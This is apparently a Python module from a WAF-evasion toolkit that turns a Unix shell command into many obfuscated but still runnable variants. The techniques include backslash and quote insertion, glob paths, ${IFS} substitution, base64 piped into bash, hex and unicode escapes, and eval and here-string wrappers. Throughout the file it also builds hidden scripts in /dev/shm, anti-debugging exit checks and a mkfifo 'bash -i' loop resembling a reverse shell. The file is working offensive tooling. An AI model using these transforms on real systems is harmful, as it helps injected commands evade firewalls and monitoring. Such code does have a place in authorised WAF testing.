"""Unix shell command obfuscation variants.

Each transform keeps the command runnable under bash while changing its
surface form: quoting, globbing, indirection through eval, decoding
pipelines and file descriptor tricks. Most transforms are randomized.
"""

from __future__ import annotations

import base64
import random

from wafshift.evasions._common import layered
from wafshift.models.types import EvasionLevel

_QUOTES = ("'", '"', "$'", "\"'", "'\"")
_HARMLESS = ("true", ":", "echo ''", "test 1", "[ 1 ]")
_SEPARATORS = (" ; ", " && ", " || ", " | ")
_BIN_PATHS = ("/usr/bin/", "/bin/", "/u??/b?n/", "/???/bin/")
_COMMENTS = ("#nothing", "#bypass", "#comment", "#ignored")
_REDIRECTIONS = (" 2>/dev/null", " >/dev/null", " 2>&1", " 2>/dev/null 1>&2", " </dev/null")
_EVAL_FORMS = ("eval '{0}'", "$(eval echo '{0}')", "bash -c '{0}'", "/bin/sh -c '{0}'")
_DEBUGGER_CHECKS = (
    '[ -z "$HISTFILE" ] && exit 1 || ',
    '[ ! -z "$DEBUG" ] && exit 1 || ',
    "(set -x; : ) 2>&1 | grep -q x && exit 1 || ",
)
_FD_TRICKS = (
    "exec 3>&1; {0} >&3 3>&-; exec 3>&-",
    "exec 3<&0; {0} <&3 3<&-; exec 3<&-",
    "{{ {0}; }} 2>&1",
)
_IFS_TRICKS = (
    "IFS=,; set -- {0}; IFS=$' \\t\\n'; $1 ${{@:2}}",
    "IFS=$'\\x01'; set -- {0}; IFS=$' \\t\\n'; $1 ${{@:2}}",
    "IFS=$'\\n'; set -- $(echo \"{0}\" | tr ' ' '\\n'); IFS=$' \\t\\n'; \"$@\"",
)


def _split(payload: str) -> tuple[str, str]:
    """Return (command, " args") with the leading space kept on args."""
    words = payload.split()
    if not words:
        return payload, ""
    args = " " + " ".join(words[1:]) if len(words) > 1 else ""
    return words[0], args


# --- Basic ---


def _backslashes(payload: str, rng: random.Random) -> str:
    return "".join(
        "\\" + ch if rng.randrange(3) == 0 and 32 < ord(ch) < 127 and ch not in "\\'\"" else ch
        for ch in payload
    )


def _close_quote(quote: str) -> str:
    return quote[::-1] if len(quote) == 2 and quote != "$'" else quote.lstrip("$")


def _quotes(payload: str, rng: random.Random) -> str:
    out: list[str] = []
    for i, word in enumerate(payload.split()):
        if i > 0 and rng.randrange(3) == 0:
            quote = rng.choice(_QUOTES)
            if quote == "$'":
                word = "$'" + word.replace("'", "\\'") + "'"
            else:
                word = quote + word + _close_quote(quote)
        out.append(word)
    return " ".join(out) or payload


def _spacing(payload: str, rng: random.Random) -> str:
    words = payload.split()
    if not words:
        return payload
    out = words[0]
    for word in words[1:]:
        if rng.randrange(2) == 0:
            out += " " * rng.randint(1, 3) + word
        else:
            out += "\t" * rng.randint(1, 2) + word
    return out


def _chaining(payload: str, rng: random.Random) -> str:
    sep = rng.choice(_SEPARATORS)
    harmless = rng.choice(_HARMLESS)
    return harmless + sep + payload if rng.randrange(2) == 0 else payload + sep + harmless


def _binary_path(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    if "/" in cmd or not cmd.strip():
        return payload
    return rng.choice(_BIN_PATHS) + cmd + args


def _inline_comments(payload: str, rng: random.Random) -> str:
    words = payload.split()
    if not words:
        return payload
    out = words[0]
    for word in words[1:]:
        if rng.randrange(4) == 0:
            out += " " + rng.choice(_COMMENTS) + "\n" + word
        else:
            out += " " + word
    return out


def _redirection_noise(payload: str, rng: random.Random) -> str:
    result = payload
    for _ in range(rng.randint(1, 2)):
        redirection = rng.choice(_REDIRECTIONS)
        if redirection not in result:
            result += redirection
    return result


def _wildcards(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    if len(cmd) <= 2:
        return payload
    globbed = "".join(
        ch + "?" if 0 < i < len(cmd) - 1 and rng.randrange(3) == 0 else ch
        for i, ch in enumerate(cmd)
    )
    return globbed + args


def _random_case(payload: str, rng: random.Random) -> str:
    return "".join(
        ch.swapcase() if ch.isascii() and ch.isalpha() and rng.randrange(3) == 0 else ch
        for ch in payload
    )


# --- Medium ---


def _brace_expansion(payload: str, rng: random.Random) -> str:
    words = payload.split()
    for i, word in enumerate(words):
        if len(word) > 2 and rng.randrange(2) == 0:
            mid = len(word) // 2
            words[i] = word[:mid] + "{" + word[mid:] + "}"
    return " ".join(words) or payload


def _ansi_hex(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    encoded = "".join(
        f"\\x{ord(ch):02x}" if rng.randrange(2) == 0 else ch for ch in cmd
    )
    return f"$'{encoded}'{args}"


def _here_string(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    return f'bash <<< "{cmd}{args}"'


def _process_substitution(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    return f"bash -c \"$(echo '{cmd}'){args}\""


def _concatenation(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    if len(cmd) < 3:
        return payload
    mid = len(cmd) // 2
    return f"a={cmd[:mid]}; b={cmd[mid:]}; ${{a}}${{b}}{args}"


def _medium(payload: str, rng: random.Random) -> list[str]:
    cmd, args = _split(payload)
    return [
        _brace_expansion(payload, rng),
        _ansi_hex(payload, rng),
        rng.choice(_EVAL_FORMS).format(payload),
        _process_substitution(payload, rng),
        _here_string(payload, rng),
        payload.replace(" ", "${IFS}"),
        f"`echo {cmd}`{args}",
        _concatenation(payload, rng),
        "eval eval echo " + payload.replace(" ", "\\ "),
        f"echo '{payload}' | tee /dev/shm/.cmd$$ && bash /dev/shm/.cmd$$ && rm /dev/shm/.cmd$$",
    ]


# --- Advanced ---


def _arithmetic(payload: str) -> str:
    cmd, args = _split(payload)
    codes = [ord(ch) for ch in cmd]
    assignments = ";".join(f"c{i}=$((10#{code}))" for i, code in enumerate(codes))
    builder = "".join(f"$(printf \\\\$(printf '%03o' $c{i}))" for i in range(len(codes)))
    return f"{assignments};cmd={builder}; $cmd{args}"


def _unicode_escapes(payload: str, rng: random.Random) -> str:
    escaped = "".join(
        f"\\u{ord(ch):04X}" if 32 < ord(ch) < 127 and rng.randrange(3) == 0 else ch
        for ch in payload
    )
    return f"$'{escaped}'"


def _function_wrap(payload: str, rng: random.Random) -> str:
    cmd, args = _split(payload)
    name = f"f{rng.randrange(1000)}"
    return f'function {name}() {{ {cmd} "$@"; }}; {name}{args}'


def _ifs_override(payload: str, rng: random.Random) -> str:
    trick = rng.choice(_IFS_TRICKS)
    target = payload.replace(" ", ",") if rng.randrange(2) == 0 else payload
    return trick.format(target)


def _advanced(payload: str, rng: random.Random) -> list[str]:
    encoded = base64.b64encode(payload.encode("utf-8", errors="surrogatepass")).decode("ascii")
    return [
        f"echo {encoded} | base64 -d | bash",
        f"echo '{payload}' > /dev/shm/.cmd$$ && exec /bin/bash /proc/self/fd/0 < /dev/shm/.cmd$$",
        _arithmetic(payload),
        rng.choice(_DEBUGGER_CHECKS) + payload,
        f"(sh -c '{payload}' > /dev/null 2>&1 &)",
        rng.choice(_FD_TRICKS).format(payload),
        _unicode_escapes(payload, rng),
        f"cat > /dev/shm/.s$$ << 'EOF'\n#!/bin/bash\n{payload}\nEOF\n"
        "chmod +x /dev/shm/.s$$ && /dev/shm/.s$$ && rm /dev/shm/.s$$",
        f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | {{ read; echo '{payload}'; }} > /tmp/f; sleep 1; rm -f /tmp/f",
        _function_wrap(payload, rng),
        _ifs_override(payload, rng),
    ]


def _basic(payload: str, rng: random.Random) -> list[str]:
    return [
        _backslashes(payload, rng),
        _quotes(payload, rng),
        _spacing(payload, rng),
        _chaining(payload, rng),
        _binary_path(payload, rng),
        _inline_comments(payload, rng),
        _redirection_noise(payload, rng),
        _wildcards(payload, rng),
        _random_case(payload, rng),
    ]


def unix_cmd_variants(
    payload: str, level: EvasionLevel, rng: random.Random | None = None,
) -> list[str]:
    return layered(payload, level, (_basic, _medium, _advanced), rng)
